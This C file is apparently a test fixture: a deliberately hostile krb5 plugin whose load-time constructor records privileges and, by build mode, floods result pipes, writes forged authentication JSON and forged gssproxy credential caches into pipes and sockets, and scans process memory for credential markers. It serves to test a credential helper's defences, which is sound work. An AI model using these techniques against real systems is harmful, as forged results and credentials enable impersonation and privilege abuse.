/* A krb5 plugin module a hostile caller names in her own krb5.conf ([plugins] ... module =).
 * Its constructor runs when libkrb5 dlopen()s it inside the helper's child.  Built by the tests
 * with -DREPORT_DIR="..." and -DEVIL_MODE=0 (record), 1 (flood), 2 (forge), 3 (fds), 4 (scan),
 * 5 (followup).
 *   record: write /proc/self/status Cap lines, NoNewPrivs, Seccomp and getresuid/getresgid to a file
 *   flood:  also write 256 MiB into every pipe among fds >= 3 (the child->parent result pipe)
 *   forge:  also write a well-formed forged result JSON into every such pipe, then _exit(0)
 *   fds:    also list every fd >= 3 it holds (fds-* file) and write a forged daemon reply
 *           (wire records: stdout with a forged JSON, exit 0) into every socket among them
 *   followup: also write a forged failure line and then a forged follow-up line (a gssproxy
 *           credential for FOLLOWUP_PRINCIPAL, "cred"/"cred_expires", as a gssproxy worker's
 *           export after its result) into every such pipe, then _exit(0)
 *   scan:   also read all of its own readable memory (/proc/self/maps, process_vm_readv) and
 *           count the places holding each of the needles SCAN_NEEDLES names ("a|b|..."); the
 *           counts go to a scan-* file ("needle=count" lines)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/prctl.h>
#include <sys/uio.h>
#include <sys/syscall.h>
#include <linux/capability.h>

#ifndef REPORT_DIR
#define REPORT_DIR "/tmp"
#endif
#ifndef EVIL_MODE
#define EVIL_MODE 0
#endif
#ifndef SCAN_NEEDLES
#define SCAN_NEEDLES "X-GSSPROXY"
#endif

/* One report file per kind and process: REPORT_DIR/<kind>-<pid>-<time>. */
static void report(const char *kind, const char *buf, size_t n) {
    char path[512];
    snprintf(path, sizeof path, REPORT_DIR "/%s-%d-%ld", kind, (int)getpid(), (long)time(NULL));
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
    if (fd >= 0) {
        if (write(fd, buf, n) < 0) { /* nothing to do */ }
        close(fd);
    }
}

static void record(void) {
    char line[512], buf[8192];
    uid_t r, e, s;
    gid_t gr, ge, gs;
    size_t n = 0;
    getresuid(&r, &e, &s);
    getresgid(&gr, &ge, &gs);
    n += snprintf(buf + n, sizeof buf - n, "pid=%d\nresuid=%u,%u,%u\nresgid=%u,%u,%u\n",
                  (int)getpid(), r, e, s, gr, ge, gs);
    /* from the kernel itself, not /proc by path: the caller may have replaced her /proc */
    struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct c[2] = {{0}};
    if (syscall(SYS_capget, &h, c) == 0)
        n += snprintf(buf + n, sizeof buf - n,
                      "capget_eff=%08x%08x\ncapget_prm=%08x%08x\ncapget_inh=%08x%08x\n",
                      c[1].effective, c[0].effective, c[1].permitted, c[0].permitted,
                      c[1].inheritable, c[0].inheritable);
    n += snprintf(buf + n, sizeof buf - n, "prctl_nnp=%d\nprctl_capbset_sys_admin=%d\n",
                  prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0), prctl(PR_CAPBSET_READ, 21, 0, 0, 0));
    FILE *st = fopen("/proc/self/status", "r");
    if (st) {
        while (fgets(line, sizeof line, st) && n < sizeof buf - 600) {
            if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) ||
                !strncmp(line, "Seccomp:", 8) || !strncmp(line, "Uid:", 4) ||
                !strncmp(line, "Gid:", 4) || !strncmp(line, "Groups:", 7))
                n += snprintf(buf + n, sizeof buf - n, "%s", line);
        }
        fclose(st);
    } else {
        n += snprintf(buf + n, sizeof buf - n, "status=unreadable\n");
    }
    report("report", buf, n);
    /* second channel: the helper's stderr */
    dprintf(2, "EVIL-PLUGIN-RAN pid=%d euid=%u\n", (int)getpid(), e);
}

static int pipe_fds(int *out, int max) {
    int k = 0;
    DIR *d = opendir("/proc/self/fd");
    struct dirent *de;
    char p[64], l[128];
    if (!d) return 0;
    while ((de = readdir(d)) && k < max) {
        int fd = atoi(de->d_name);
        if (fd < 3) continue;
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t m = readlink(p, l, sizeof l - 1);
        if (m <= 0) continue;
        l[m] = 0;
        if (!strncmp(l, "pipe:", 5)) out[k++] = fd;
    }
    closedir(d);
    return k;
}

static void flood(void) {
    int fds[64], k = pipe_fds(fds, 64);
    static char chunk[1 << 20];
    memset(chunk, 'A', sizeof chunk);
    for (int i = 0; i < k; i++) {
        int fl = fcntl(fds[i], F_GETFL);
        if ((fl & O_ACCMODE) == O_RDONLY) continue;
        for (int j = 0; j < 256; j++)
            if (write(fds[i], chunk, sizeof chunk) < 0) break;
    }
}

static void forge(void) {
    static const char json[] =
        "{\"ok\": {\"token\": {\"source\": \"proxy\", \"token\": \"6082deadbeef\", "
        "\"session_key\": \"00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff\", "
        "\"enctype\": 18, \"principal\": \"bob@LAB.TEST\", \"spn\": \"cifs/dc1.lab.test\", "
        "\"impersonated\": true}, \"trail\": [{\"source\": \"proxy\", \"outcome\": \"ok\", "
        "\"detail\": \"bob@LAB.TEST via gssproxy\", \"reason\": \"\"}]}}";
    int fds[64], k = pipe_fds(fds, 64);
    for (int i = 0; i < k; i++) {
        int fl = fcntl(fds[i], F_GETFL);
        if ((fl & O_ACCMODE) == O_RDONLY) continue;
        if (write(fds[i], json, sizeof json - 1) < 0) { /* next */ }
    }
    _exit(0);
}

#ifndef FOLLOWUP_PRINCIPAL
#define FOLLOWUP_PRINCIPAL "nobody@INVALID"
#endif

static void followup(void) {
    /* a one-entry FILE ccache v4 whose client and X-GSSPROXY entry name FOLLOWUP_PRINCIPAL's
     * user (the shape the daemon's cache checks before staging), hex-encoded, then garbage */
    char line[4096];
    const char *at = strchr(FOLLOWUP_PRINCIPAL, '@');
    int ulen = (int)(at - FOLLOWUP_PRINCIPAL), rlen = (int)strlen(at + 1);
    unsigned char blob[1024];
    size_t n = 0;
#define U16(v) (blob[n++] = (unsigned char)((v) >> 8), blob[n++] = (unsigned char)(v))
#define U32(v) (U16((v) >> 16), U16((v) & 0xffff))
#define STR(p, l) (U32(l), memcpy(blob + n, (p), (size_t)(l)), n += (size_t)(l))
    U16(0x0504); U16(0);
    U32(1); U32(1); STR(at + 1, rlen); STR(FOLLOWUP_PRINCIPAL, ulen);  /* default principal */
    U32(1); U32(1); STR(at + 1, rlen); STR(FOLLOWUP_PRINCIPAL, ulen);  /* client */
    U32(1); U32(3); STR("X-GSSPROXY:", 11); STR("Encrypted", 9); STR("Credentials", 11);
    STR("v1", 2);
    for (int i = 0; i < 64; i++) blob[n++] = (unsigned char)(0xa5 ^ i);  /* no real entry */
    int k0 = snprintf(line, sizeof line,
                      "{\"error\": {\"reason\": \"no-credentials\", \"message\": \"forged\", "
                      "\"hint\": \"\"}}\n{\"cred\": \"");
    for (size_t i = 0; i < n && k0 < (int)sizeof line - 64; i++)
        k0 += snprintf(line + k0, sizeof line - (size_t)k0, "%02x", blob[i]);
    k0 += snprintf(line + k0, sizeof line - (size_t)k0, "\", \"cred_expires\": 4102444800}\n");
    int fds[64], k = pipe_fds(fds, 64);
    for (int i = 0; i < k; i++) {
        int fl = fcntl(fds[i], F_GETFL);
        if ((fl & O_ACCMODE) == O_RDONLY) continue;
        if (write(fds[i], line, (size_t)k0) < 0) { /* next */ }
    }
    _exit(0);
}

static void rec(int fd, char tag, const char *data, unsigned len) {
    unsigned char h[5] = {(unsigned char)tag, len >> 24, len >> 16, len >> 8, len};
    if (write(fd, h, 5) < 0 || write(fd, data, len) < 0) { /* next */ }
}

static void fds(void) {
    static const char fake[] = "{\"outcome\": \"ok\", \"principal\": \"bob@LAB.TEST\", "
                               "\"source\": \"proxy\", \"impersonated\": true, \"via\": \"forged\"}\n";
    char buf[8192], p[64], l[256];
    size_t n = 0;
    DIR *d = opendir("/proc/self/fd");
    struct dirent *de;
    if (!d) return;
    while ((de = readdir(d))) {
        int fd = atoi(de->d_name);
        if (fd < 3) continue;
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t m = readlink(p, l, sizeof l - 1);
        if (m <= 0) continue;
        l[m] = 0;
        if (n < sizeof buf - 300) n += snprintf(buf + n, sizeof buf - n, "%d %s\n", fd, l);
        if (!strncmp(l, "socket:", 7)) {
            rec(fd, 'O', fake, sizeof fake - 1);
            rec(fd, 'X', "0", 1);
        }
    }
    closedir(d);
    report("fds", buf, n);
}

static void scan(void) {
    char needles[512], *save = NULL, out[2048], line[512];
    const char *list[16];
    long counts[16] = {0};
    int nn = 0;
    snprintf(needles, sizeof needles, "%s", SCAN_NEEDLES);
    for (char *t = strtok_r(needles, "|", &save); t && nn < 16; t = strtok_r(NULL, "|", &save))
        list[nn++] = t;
    FILE *maps = fopen("/proc/self/maps", "r");  /* 0444; /proc/self/mem is root's once non-dumpable */
    long regions = 0, bytes = 0;
    if (maps) {
        while (fgets(line, sizeof line, maps)) {
            unsigned long lo, hi;
            char perms[8];
            if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r') continue;
            if (strstr(line, "[vvar]") || hi - lo > (1UL << 30)) continue;
            char *buf = malloc(hi - lo);
            if (!buf) continue;
            struct iovec here = {buf, hi - lo}, there = {(void *)lo, hi - lo};
            ssize_t got = process_vm_readv(getpid(), &here, 1, &there, 1, 0);
            if (got > 0) {
                regions++;
                bytes += got;
                for (int i = 0; i < nn; i++) {
                    size_t k = strlen(list[i]);
                    for (char *at = buf; (at = memmem(at, (size_t)(buf + got - at), list[i], k));
                         at += k)
                        counts[i]++;
                }
            }
            free(buf);
        }
    }
    if (maps) fclose(maps);
    size_t n = (size_t)snprintf(out, sizeof out, "regions=%ld\nbytes=%ld\n", regions, bytes);
    for (int i = 0; i < nn && n < sizeof out - 80; i++)
        n += (size_t)snprintf(out + n, sizeof out - n, "%s=%ld\n", list[i], counts[i]);
    report("scan", out, n);
}

__attribute__((constructor)) static void evil_init(void) {
    record();
    if (EVIL_MODE == 1) flood();
    if (EVIL_MODE == 2) forge();
    if (EVIL_MODE == 3) fds();
    if (EVIL_MODE == 4) scan();
    if (EVIL_MODE == 5) followup();
}

/* krb5 looks these up after dlopen; refusing the version makes it skip the module quietly. */
#define KRB5_PLUGIN_VER_NOTSUPP (-1765328137L)
#define VT(iface) long iface##_evil_initvt(void *c, int maj, int min, void *vt) { \
    (void)c; (void)maj; (void)min; (void)vt; return KRB5_PLUGIN_VER_NOTSUPP; }
VT(ccselect)
VT(hostrealm)
VT(localauth)
VT(clpreauth)
VT(gssapi)
VT(pwqual)
VT(certauth)
VT(kdcpolicy)
